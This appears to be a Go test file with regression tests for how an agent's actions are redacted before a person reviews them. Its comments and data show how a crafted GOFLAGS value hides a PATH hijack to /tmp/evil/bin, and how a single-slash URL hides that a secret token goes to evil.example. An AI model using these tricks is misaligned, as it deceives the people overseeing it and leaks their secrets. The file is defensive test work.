package domain

import (
	"strings"
	"testing"
)

// TestAttack38EnvSecretURLHidesPath: the Environment detail is redacted a
// second time when shown (Action.Redacted runs RedactText over every
// detail). A shown value holding a secret-named URL assignment (GOFLAGS is
// shown: prefix GO) makes urlWordEnd start inside the Go-quoted value; the
// closing quote of that value pairs with the opening quote of the next
// variable's, and so on, so the "[redacted]" swallows every variable after
// it. With GOFLAGS=`X_TOKEN_URL=https://h/a`, PATH=/tmp/evil/bin:… the
// person reads
//
//	Environment: GOFLAGS="X_TOKEN_URL=https://h/[redacted]"
//
// — one harmless variable and no PATH — while /bin/sh -c ls runs the
// agent's /tmp/evil/bin/ls. The same env without the URL shows PATH.
func TestAttack38EnvSecretURLHidesPath(t *testing.T) {
	run := func(goflags string) string {
		return attack38Shown(t, map[string]any{"argv": []string{"/bin/sh", "-c", "ls"}, "executable": "/bin/sh", "env": map[string]string{
			"GOFLAGS": goflags, "PATH": "/tmp/evil/bin:/usr/bin:/bin", "PYTHONPATH": "/usr/lib/python3"}})
	}
	// Control: GOFLAGS without a secret URL: PATH and PYTHONPATH in view.
	if got := run("-trimpath"); !strings.Contains(got, `PATH="/tmp/evil/bin:/usr/bin:/bin"`) || !strings.Contains(got, "PYTHONPATH") {
		t.Fatalf("control: %s", got)
	}
	got := run("X_TOKEN_URL=https://h/a")
	if !strings.Contains(got, "/tmp/evil/bin") || !strings.Contains(got, "PYTHONPATH") {
		t.Errorf("a secret URL in one shown variable hides the variables after it (PATH=/tmp/evil/bin:/usr/bin:/bin):\n%s", got)
	}
}

// TestAttack38SecretURLHostHidden: the host of a secret-named URL is to stay
// in view ("the host it goes to in view"). Written with one slash,
// https:/evil.example/… (WHATWG URL parsing, as Node's fetch and browsers
// do, reads host evil.example), the value holds no "://", urlOriginEnd
// takes the first "/" for the end of the origin and shows only "https:/":
// the host the secret is sent to is hidden. (Also at 929f7b3.)
func TestAttack38SecretURLHostHidden(t *testing.T) {
	const tok = "T0B0XoXb9fQ2kLm7Zt4RwPa1Hs"
	// Control: with "//" the host is shown and the path hidden.
	ctl := attack38Shown(t, map[string]any{"cmd": "WEBHOOK_SECRET_URL=https://evil.example/T0/" + tok + " node notify.js"})
	if !strings.Contains(ctl, "evil.example") || strings.Contains(ctl, tok) {
		t.Fatalf("control: %s", ctl)
	}
	for _, cmd := range []string{
		"WEBHOOK_SECRET_URL=https:/evil.example/T0/" + tok + " node notify.js",
		"node notify.js --webhook-secret-url https:/evil.example/T0/" + tok,
	} {
		if got := attack38Shown(t, map[string]any{"cmd": cmd}); !strings.Contains(got, "evil.example") {
			t.Errorf("host a secret URL goes to hidden:\n cmd:   %s\n shown: %s", cmd, got)
		}
	}
}
